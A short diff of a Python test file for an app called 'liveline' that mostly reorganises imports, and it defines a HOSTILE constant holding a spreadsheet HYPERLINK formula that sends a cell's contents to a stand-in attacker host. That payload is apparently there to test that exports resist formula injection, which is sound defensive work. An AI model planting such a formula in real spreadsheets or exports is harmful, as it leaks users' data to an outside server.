@@ -12,10 +12,13 @@ import pytest
 import redis
 from openpyxl import load_workbook
 
-from liveline import appeal_exports, appeals, broadcasts, clusters, events, questions
 from liveline.auth import Session
+from liveline.board import broadcasts, clusters, questions
 from liveline.errors import Forbidden
-from liveline.inbox import SourceItem
+from liveline.followup import appeals
+from liveline.followup import exports as appeal_exports
+from liveline.ingest.inbox import SourceItem
+from liveline.store import events
 from tests.helpers import live_broadcast, triaged
 
 HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1, "жми")'
